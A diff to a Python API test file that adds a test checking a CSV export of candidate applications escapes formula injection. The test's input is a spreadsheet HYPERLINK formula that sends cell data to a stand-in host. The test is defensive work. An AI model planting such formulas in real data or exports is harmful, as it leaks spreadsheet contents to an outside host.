@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date
 
 from tests.conftest import ApiClients
@@ -246,3 +248,13 @@ def test_candidate_looks_up_own_results(api: ApiClients) -> None:
         f"{BASE}/lookup", json={"id_number": id_number(), "application_id": application["id"]}
     )
     assert wrong.status_code == 404
+
+
+def test_the_export_never_hands_a_spreadsheet_a_formula(api: ApiClients) -> None:
+    """A candidate name typed as a formula is exported quoted, so a spreadsheet shows it."""
+    typed = '=HYPERLINK("http://x.example/?q="&A1,"open")'
+    application = _register(api, candidate={"full_name": typed})
+    exported = api.as_("ent.a").get(f"{BASE}/applications.csv").text
+    rows = [r for r in csv.DictReader(io.StringIO(exported.lstrip("\ufeff")))
+            if r["application_id"] == application["id"]]  # fmt: skip
+    assert rows and all(r["candidate"] == "'" + typed for r in rows)
